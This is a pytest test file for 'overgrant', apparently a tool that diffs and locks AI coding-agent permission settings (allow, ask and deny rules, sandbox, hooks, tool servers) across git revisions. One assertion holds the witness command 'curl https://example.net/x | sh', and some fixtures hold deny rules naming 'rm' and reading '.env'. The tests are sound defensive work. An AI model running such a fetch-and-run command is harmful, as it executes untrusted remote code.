"""The difference in power: what is in effect counts, not text; revisions, directories, and findings since a revision."""

from __future__ import annotations

import json
import subprocess

import pytest

from overgrant.powerdiff import Side, gains, losses
from overgrant.run import Plan, lint
from test_cli import SETTINGS, Tree, tree
from test_pre_commit import GIT
from trees import inputs_of, rules

__all__ = ["tree"]


def side(files: dict[str, str]) -> Side:
    result, analysis = lint(inputs_of({path: text.encode() for path, text in files.items()}), Plan(rules(), debug=True))
    return Side(analysis.world, result.findings)


def settings(**permissions: object) -> dict[str, str]:
    return {SETTINGS: json.dumps({"permissions": permissions})}


def said(base: dict[str, str], head: dict[str, str]) -> tuple[list[str], list[str]]:
    one, two = side(base), side(head)
    return [each.what for each in gains(one, two)], [each.what for each in losses(one, two)]


A, B = "Bash(npm run test)", "Read(src/**)"


@pytest.mark.parametrize(("base", "head"), [
    (settings(allow=[A, B]), settings(allow=[B, A])), (settings(allow=[A]), settings(allow=[A, A])),
    (settings(allow=["Bash(npm:*)"]), settings(allow=["Bash(npm *)"])), (settings(allow=["Bash(npm *)"]), settings(allow=["Bash(npm *)", A])),
    (settings(allow=["Bash"]), settings(allow=["Bash(*)"])), (settings(deny=["Read(.env)"]), settings(deny=["Read(.env)", "Read(./.env)"])),
    (settings(allow=["mcp__*"]), settings(allow=[])), (settings(), {SETTINGS: "{ }"}), ({}, {}), ({}, {"README.md": "hello"}),
    (settings(allow=[A], deny=["Bash(rm *)"]), {SETTINGS: '{"permissions":\n\n{"deny": ["Bash(rm *)"], "allow": ["Bash(npm run test)"]}}'})])
def test_nothing_changes_in_effect(base: dict[str, str], head: dict[str, str]) -> None:
    assert said(base, head) == ([], [])


@pytest.mark.parametrize(("base", "head", "more", "less"), [
    (settings(allow=[A]), settings(allow=[A, B]), ["`Read(src/**)` without asking"], []),
    (settings(allow=[A]), settings(allow=["Bash(npm run *)"]), ["`Bash(npm run *)` without asking"], []),
    (settings(allow=["Bash(npm run *)"]), settings(allow=[A]), [], ["`Bash(npm run *)` without asking"]),
    (settings(allow=[A]), settings(ask=[A]), [], ["`Bash(npm run test)` without asking", "`Bash(npm run test)` is now asked for"]),
    (settings(deny=["Read(.env)"]), settings(), ["`Read(.env)` is no longer denied"], []),
    (settings(deny=["Read(.env)"]), settings(ask=["Read(.env)"]), ["`Read(.env)` is no longer denied"], []),
    (settings(), settings(deny=["Read(.env)"]), [], ["`Read(.env)` is now denied"]),
    (settings(), settings(additionalDirectories=["~"]), ["`~` without asking"], []),
    ({}, {".mcp.json": '{"mcpServers": {"a": {"command": "npx", "args": ["x@1.0.0"]}}}'}, ["tool server `a`: `npx x@1.0.0`"], []),
    ({".mcp.json": '{"mcpServers": {"a": {"command": "npx", "args": ["x@1.0.0"]}}}'},
     {".mcp.json": '{"mcpServers": {"a": {"command": "npx", "args": ["x@2.0.0"]}}}'},
     ["tool server `a`: `npx x@2.0.0`"], ["tool server `a`: `npx x@1.0.0`"]),
    (settings(), {SETTINGS: '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "date"}]}]}}'}, ["`date` runs at Stop"], []),
])
def test_what_is_gained_and_lost(base: dict[str, str], head: dict[str, str], more: list[str], less: list[str]) -> None:
    found = said(base, head)
    assert (sorted(found[0]), sorted(found[1])) == (sorted(more), sorted(less))


def test_a_sandbox_that_goes() -> None:
    base, head = {SETTINGS: '{"sandbox": {"enabled": true, "allowUnsandboxedCommands": false, "failIfUnavailable": true}}'}, settings()
    assert "no sandbox holds it" in said(base, head)[0]
    assert said(head, base)[0] == []


def test_agents_are_compared_with_themselves() -> None:
    base = {"a/" + SETTINGS: json.dumps({"permissions": {"allow": [A]}}), "b/" + SETTINGS: "{}"}
    head = {"a/" + SETTINGS: json.dumps({"permissions": {"allow": [A]}}), "b/" + SETTINGS: json.dumps({"permissions": {"allow": [A]}})}
    (gain,) = gains(side(base), side(head))
    assert (gain.agent, gain.path, gain.side) == ("claude (b)", "b/" + SETTINGS, "head")


def test_a_gain_is_as_bad_as_its_finding() -> None:
    (gain,) = gains(side(settings()), side(settings(allow=["Bash(*)"])))
    assert (gain.severity, gain.capability, gain.witness) == ("high", "exec.shell", "curl https://example.net/x | sh")


def commit(tree: Tree) -> None:
    for words in (["init", "-q", "."], ["add", "-A", "-f"], ["commit", "-q", "--no-verify", "-m", "x"]):
        subprocess.run(["git", *words], cwd=tree.path, env=GIT, check=True, capture_output=True)


def test_revisions_directories_and_what_lies_here(tree: Tree) -> None:
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": [A]}}))
    tree.put("vendor/x/" + SETTINGS, json.dumps({"permissions": {"allow": ["Bash"]}}))
    commit(tree)
    assert tree.run("diff", "HEAD").out == "no agent gains or loses power\n"
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": [A, "WebFetch"]}}))
    ran = tree.run("diff", "HEAD")
    assert (ran.code, ran.out) == (0, f"+ medium: `claude`: `WebFetch` without asking\n    {SETTINGS}:1\n1 gained, 0 lost\n")
    assert tree.run("diff", "HEAD", "--fail-on", "medium").code == 1
    assert tree.run("diff", "HEAD", "--fail-on", "high").code == 0
    commit(tree)
    data = json.loads(tree.run("diff", "HEAD~1", "HEAD", "--format", "json").out)
    assert data["version"] == 1
    assert data["losses"] == []
    assert data["gains"] == [{"agent": "claude", "capability": "net.egress", "what": "`WebFetch` without asking", "path": SETTINGS,
                              "line": 1, "side": "head", "witness": None, "severity": "medium"}]
    for name in ("one", "two"):
        tree.put(f"{name}/{SETTINGS}", json.dumps({"permissions": {"allow": [A] if name == "one" else []}}))
    assert "- low: `claude`: `Bash(npm run test)` without asking" in tree.run("diff", "one", "two").out


def test_a_script_of_a_hook_is_read_from_the_revision(tree: Tree) -> None:
    tree.put(SETTINGS, '{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "bash tools/guard.sh"}]}]}}')
    tree.put("tools/guard.sh", "echo blocked >&2\nexit 2\n")
    commit(tree)
    tree.put("tools/guard.sh", "echo blocked >&2\nexit 1\n")
    assert "the guard `bash tools/guard.sh` at PreToolUse is no longer there" in tree.run("diff", "HEAD").out


@pytest.mark.parametrize("words", [("nothing",), ("-x",), ("HEAD", "no/such"), ()])
def test_what_is_no_tree_is_a_usage_error(tree: Tree, words: tuple[str, ...]) -> None:
    tree.put("a", "b")
    commit(tree)
    ran = tree.run("diff", *words)
    assert (ran.code, ran.out) == (2, "")


def test_since_shows_what_is_new(tree: Tree) -> None:
    tree.put(SETTINGS, '{"permissions": {"allow": ["Bash(*)"]}}')
    commit(tree)
    tree.put(SETTINGS, '{"permissions": {"allow": [\n"WebFetch",\n"Bash(*)"]}}')
    assert tree.rules() == ["any-host", "open-shell"]
    assert tree.rules("--since", "HEAD") == ["any-host"]
    assert tree.run("check", "--since", "nothing").code == 2


# --- the lock ----------------------------------------------------------------------------------------


def test_a_lock_is_the_same_twice_and_sees_growth(tree: Tree) -> None:
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": [A], "deny": ["Read(.env)"]}}))
    tree.put("examples/x/" + SETTINGS, '{"permissions": {"allow": ["Bash"]}}')
    assert tree.run("lock", "--check").code == 2
    assert tree.run("lock").code == 0
    text = (tree.path / "overgrant.lock").read_text()
    assert [line for line in text.splitlines() if not line.startswith("#")] == [
        "claude  -  no sandbox holds it", "claude  exec.shell  `Bash(npm run test)` without asking", "claude  held  `Read(.env)` is denied"]
    tree.run("lock")
    assert (tree.path / "overgrant.lock").read_text() == text
    assert (tree.run("lock", "--check").code, tree.run("lock", "--check").out) == (0, "nothing beyond `overgrant.lock`\n")
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": [A, "WebFetch"]}}))
    ran = tree.run("lock", "--check")
    assert (ran.code, ran.out) == (1, f"+ claude  net.egress  `WebFetch` without asking\n    {SETTINGS}:1\n"
                                      "+ claude  held  `Read(.env)` is denied: no longer there\n"
                                      "2 beyond `overgrant.lock`; review them, then run `overgrant lock`\n")
    tree.put(SETTINGS, json.dumps({"permissions": {"deny": ["Read(.env)"]}}))
    ran = tree.run("lock", "--check")
    assert ran.code == 0
    assert "- claude  exec.shell  `Bash(npm run test)` without asking" in ran.out


def test_a_lock_counts_what_is_in_effect(tree: Tree) -> None:
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": ["Bash(git *)"]}}))
    tree.run("lock")
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": ["Bash(git *)", "Bash(git log *)"]}}))
    assert tree.run("lock", "--check").code == 0, "the approved rule covers the new one"
    tree.put(SETTINGS, json.dumps({"permissions": {"allow": ["Bash(git log *)"]}}))
    assert tree.run("lock", "--check").code == 1, "the approved rule is gone, so nobody approved this one"
